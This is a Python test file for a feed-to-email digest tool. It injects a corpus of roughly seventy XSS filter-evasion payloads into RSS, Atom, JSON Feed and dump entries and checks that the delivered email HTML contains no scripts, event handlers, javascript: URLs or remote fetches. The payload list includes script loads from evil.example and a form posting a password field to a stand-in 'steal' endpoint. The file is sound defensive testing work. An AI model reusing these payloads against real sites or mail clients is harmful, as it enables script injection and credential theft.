"""Active content never reaches a mailbox: a corpus of XSS payloads is put in every
field of RSS, Atom, JSON Feed and dump entries, sent through the full pipeline to a
real SMTP server, and the HTML that arrives is audited tag by tag and attribute by
attribute.
"""

from __future__ import annotations

import asyncio
import json
import re
from datetime import UTC, date, datetime, timedelta
from email import policy
from email.parser import BytesParser
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.sax.saxutils import escape as xml_escape

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot.choose.tagging import load_rules
from bot.delivery.loop import deliver_now
from bot.ingest.storing import ingest_bytes
from bot.mail import render
from bot.mail.parts import Parts
from bot.mail.prose import ALLOWED_TAGS, sanitize_html
from bot.plan import plan
from bot.subscribers.fields import clean_fields
from bot.subscribers.subscriptions import save
from bot.tools.sink import Sink
from tests.conftest import ROOT
from tests.helpers import render_dump, settings_for

RULES = load_rules(ROOT / "config" / "tags.toml")
DAY = datetime(2026, 6, 14, 12, tzinfo=UTC)

# Classic filter-evasion payloads: script tags in many spellings, event handlers,
# dangerous URL schemes (also entity- and whitespace-obfuscated), forms, frames,
# objects, SVG/MathML, CSS expressions and imports, meta refresh, base, comments.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=https://tracker.example/pixel.gif>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<body background="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="jav\tascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>hover</a>',
    '<a href="https://ok.example" style="background:url(javascript:alert(1))">s</a>',
    '<a href="https://ok.example" target="_blank" formaction="javascript:alert(1)">t</a>',
    '<form action="https://evil.example/steal"><input name=p type=password><button>go</button></form>',
    '<input type="image" src="javascript:alert(1)">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="behavior: url(xss.htc);">x</p>',
    '<span style="background-image: url(https://tracker.example/p.gif)">x</span>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div onpointerover="alert(1)">x</div>',
    '<a href="#" onfocus="alert(1)" autofocus>x</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<applet code="X.class"></applet>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7}",
]

# What the digest template itself produces, plus what the sanitizer lets through.
TEMPLATE_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "p",
    "a",
    "span",
    "h1",
    "h2",
    "ol",
    "li",
    "mark",
}
SAFE_TAGS = TEMPLATE_TAGS | ALLOWED_TAGS
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "data",
    "srcdoc",
    "xlink:href",
    "poster",
    "srcset",
}


class Audit(HTMLParser):
    """Every way HTML can run code or fetch something, found in one pass."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.images: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS and tag != "img":
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if tag == "meta" and name not in {"charset", "name", "content"}:
                self.problems.append(f"<meta {name}>")
            if name in URL_ATTRIBUTES:
                if tag == "img" and name == "src":
                    self.images.append(value)
                scheme = urlsplit(value.strip()).scheme.lower()
                allowed = {"https"} if tag == "img" else SAFE_SCHEMES
                own_anchor = tag == "a" and name == "href" and re.fullmatch(r"#e\d+", value) is not None
                if (name not in {"href", "src"} or scheme not in allowed) and not own_anchor:
                    self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and any(
                bad in value.lower() for bad in ("expression", "javascript", "url(", "@import", "behavior")
            ):
                self.problems.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment <!--{data[:40]}-->")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.problems.append(f"declaration <!{decl[:40]}>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration <![{data[:40]}>")


def audit(html: str) -> Audit:
    checker = Audit()
    checker.feed(html)
    checker.close()
    return checker


def rss(payloads: list[str]) -> bytes:
    items = "".join(
        f"<item><title>RSS {i} {xml_escape(p)}</title><link>{xml_escape(p if i % 2 else 'javascript:alert(1)')}</link>"
        f"<guid>rss-{i}</guid><description>{xml_escape(p)}</description>"
        f"<category>{xml_escape(p)}</category><dc:creator>{xml_escape(p)}</dc:creator>"
        f"<pubDate>Sun, 14 Jun 2026 08:00:00 GMT</pubDate></item>"
        for i, p in enumerate(payloads)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>evil rss</title><link>https://evil.example</link><description>x</description>{items}</channel></rss>"
    ).encode()


def atom(payloads: list[str]) -> bytes:
    entries = "".join(
        f'<entry><title type="html">Atom {i} {xml_escape(xml_escape(p))}</title><id>urn:atom:{i}</id>'
        f'<link href="{xml_escape(p, {chr(34): "&quot;"})}"/><updated>2026-06-14T08:00:00Z</updated>'
        f"<author><name>{xml_escape(p)}</name></author>"
        f'<category term="{xml_escape(p, {chr(34): "&quot;"})}"/>'
        f'<content type="html">{xml_escape(p)}</content></entry>'
        for i, p in enumerate(payloads)
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>evil atom</title><id>urn:evil</id><updated>2026-06-14T08:00:00Z</updated>{entries}</feed>"
    ).encode()


def json_feed(payloads: list[str]) -> bytes:
    items = [
        {
            "id": f"json-{i}",
            "title": f"JSON {i} {p}",
            "url": p,
            "content_html": p,
            "tags": [p],
            "authors": [{"name": p}],
            "date_published": "2026-06-14T08:00:00Z",
        }
        for i, p in enumerate(payloads)
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "evil json", "items": items}).encode()


def dump(payloads: list[str]) -> bytes:
    return render_dump(
        [
            (f"Dump {i} {p}", [f"Author {p}"], date(2026, 6, 14), f"Summary {p} https://ok.example/{i}")
            for i, p in enumerate(payloads)
        ]
    ).encode()


def deliver_everything(
    factory: sessionmaker[Session], tmp_path: Path, sink: Sink, *, remote_images: bool, summary_chars: int = 400
) -> str:
    settings = settings_for(
        tmp_path,
        smtp={"port": sink.port, "timeout_seconds": 10},
        digest={"max_entries": 1000, "remote_images": remote_images, "summary_chars": summary_chars},
    )
    save(factory, settings, [clean_fields("reader@example.org", name="Reader")], DAY - timedelta(days=1))
    for name, data in (
        ("evil.rss", rss(PAYLOADS)),
        ("evil.atom", atom(PAYLOADS)),
        ("evil.json", json_feed(PAYLOADS)),
        ("evil.txt", dump(PAYLOADS)),
    ):
        result = ingest_bytes(factory, data, name=name, now=DAY, rules=RULES)
        assert result.status.value == "ingested", result
    plan(factory, settings, RULES, now=DAY, all_due=True)
    report = asyncio.run(deliver_now(factory, Parts(settings), clock=lambda: DAY))
    assert report.sent == 1, report
    message = BytesParser(policy=policy.default).parsebytes(sink.received[-1].data)
    assert message.get_body(("plain",)) is not None
    return message.get_body(("html",)).get_content()


@pytest.fixture(autouse=True)
def _no_size_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every entry in full: the corpus makes one digest far over the size budget, and
    compact entries would show no summary to audit."""
    monkeypatch.setattr(render, "HTML_BUDGET", 1 << 40)


@pytest.mark.parametrize("summary_chars", [400, 0])
def test_no_payload_survives_the_full_render(
    factory: sessionmaker[Session], tmp_path: Path, sink: Sink, summary_chars: int
) -> None:
    html = deliver_everything(factory, tmp_path, sink, remote_images=False, summary_chars=summary_chars)
    checker = audit(html)
    print(f"\nXSS corpus: {len(PAYLOADS)} payloads x 4 formats x (title, link, summary, author, tag)")
    assert checker.problems == []
    assert checker.images == []
    assert "alert(1)</script>" not in html
    assert html.count('class="entry"') == 4 * len(PAYLOADS)  # every entry rendered ...
    assert html.count('class="summary"') == 4 * len(PAYLOADS)  # ... in full


def test_https_images_pass_only_when_configured(factory: sessionmaker[Session], tmp_path: Path, sink: Sink) -> None:
    html = deliver_everything(factory, tmp_path, sink, remote_images=True, summary_chars=0)
    checker = audit(html)
    assert checker.problems == []
    assert checker.images and all(src.startswith("https://") for src in checker.images)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitizer_output_is_inert_for_each_payload(payload: str) -> None:
    for remote_images in (False, True):
        assert audit(sanitize_html(payload, remote_images=remote_images)).problems == []


def test_the_audit_flags_the_raw_payloads() -> None:
    # The audit must be able to fail: unsanitized, nearly every payload is caught
    # (the rest are plain text such as "javascript:alert(1)", inert outside an attribute).
    flagged = [p for p in PAYLOADS if audit(p).problems or audit(p).images]
    assert len(flagged) >= len(PAYLOADS) - 6, sorted(set(PAYLOADS) - set(flagged))
